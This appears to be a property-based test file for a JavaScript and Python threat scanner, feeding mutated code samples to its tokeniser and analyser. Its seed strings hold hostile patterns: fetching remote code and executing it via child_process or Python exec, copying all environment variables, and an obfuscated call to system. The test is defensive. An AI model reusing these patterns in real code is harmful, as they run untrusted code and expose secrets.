import assert from "node:assert/strict";
import { describe, test } from "node:test";
import fc from "fast-check";
import { codePoint } from "../../../core/code-point.fixture.ts";
import { runs } from "../../../core/runs.fixture.ts";
import { analyse } from "./analyse.ts";
import { fold } from "./code/fold.ts";
import { tokeniseJavascript } from "./code/javascript.ts";
import { tokenisePython } from "./code/python.ts";
import type { Language, Token } from "./code/token.ts";
import { HOSTILE } from "./hostile.fixture.ts";
import { shapeThreats } from "./shape.ts";

const SEEDS: readonly [language: Language, text: string][] = [
  [
    "javascript",
    `const { exec: run } = require("child_process");\nclass A extends B { #x = /a[/]b/g; get() { return \`\${this.#x}c\`; } }\nfetch("https://a.example.com").then(async (r) => { run(await r.text()); });\n`,
  ],
  [
    "javascript",
    `import os, { userInfo as u } from "node:os";\nfor (const [k, v] of Object.entries(process.env)) out[k] = v ?? "";\nexport default { a: b ? c : d, ["e" + "f"]: Buffer.from("aGVsbG8gd29ybGQh", "base64").toString() };\n`,
  ],
  [
    "python",
    `from os import system as s, environ\nimport urllib.request as r\nclass A(B):\n    def f(self, a: int = 1, *b):\n        with open(f"{a}/{b!r:>{a}}") as c:\n            return [x for x in c if x]\nexec(r.urlopen("https://a.example.com").read())\n`,
  ],
  [
    "python",
    `x = lambda y: getattr(y, "sys" + "tem")\nz = b"\\x00\\xff" "c"[::-1]\nif x:\n\tprint("".join(chr(c) for c in [104, 105]))\nelse:\n    pass\n`,
  ],
];
const RUNS = { atInstall: true, atImport: true, started: true };

function tokens(text: string, language: Language): Token[] {
  return (language === "python" ? tokenisePython : tokeniseJavascript)(text).tokens;
}

/** A seed with stretches of it taken out, repeated or put elsewhere, and with characters that open and close. */
const mutated = fc
  .tuple(
    fc.constantFrom(...SEEDS),
    fc.array(
      fc.tuple(
        fc.nat(400),
        fc.nat(40),
        fc.constantFrom(
          "",
          "`",
          "${",
          '"',
          "'",
          "(",
          ")",
          "[",
          "]",
          "{",
          "}",
          "\\",
          "\n",
          "/",
          "\t",
          '"""',
          "=>",
          "\u2028",
          "\ud800",
        ),
      ),
    ),
  )
  .map(([[language, seed], changes]): [Language, string] => {
    let text = seed;
    for (const [at, length, insert] of changes) {
      const start = at % (text.length + 1);
      text =
        text.slice(0, start) +
        insert +
        (length % 3 === 0 ? text.slice(start, start + length) : "") +
        text.slice(start + (length % 2 === 0 ? length : 0));
    }
    return [language, text.slice(0, 20_000)];
  });

describe("whatever the code", () => {
  test("tokens stand in order within it", () => {
    fc.assert(
      fc.property(mutated, ([language, text]) => {
        let last = 0;
        for (const { at } of tokens(text, language)) {
          assert.ok(at >= last && at <= text.length, `${at} behind ${last}`);
          last = at;
        }
      }),
    );
  });

  test("what is folded stands within it, and is no longer than its bound", () => {
    fc.assert(
      fc.property(mutated, ([language, text]) => {
        const raw = tokens(text, language);
        const folded = fold(raw, language).tokens;
        assert.ok(folded.length <= raw.length + 8);
        for (const { at } of folded) assert.ok(at >= 0 && at <= text.length);
      }),
    );
  });

  test("it is analysed, and every place is within it", () => {
    fc.assert(
      fc.property(mutated, ([language, text]) => {
        const { hits, found } = analyse(text, language, RUNS);
        for (const { at } of [...hits, ...found, ...shapeThreats(text, language)])
          assert.ok(at >= 0 && at <= text.length);
      }),
      runs(300),
    );
  });

  test("any text is", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: codePoint, maxLength: 300 }),
        fc.constantFrom<Language>("javascript", "python"),
        (text, language) => {
          analyse(text, language, RUNS);
          shapeThreats(text, language);
        },
      ),
    );
  });
});

describe("code that is made to take long ends", () => {
  for (const [title, language, make] of HOSTILE) {
    test(title, () => {
      const text = make(3_000);
      const { hits } = analyse(text, language, RUNS);
      for (const { at } of hits) assert.ok(at <= text.length);
    });
  }
});
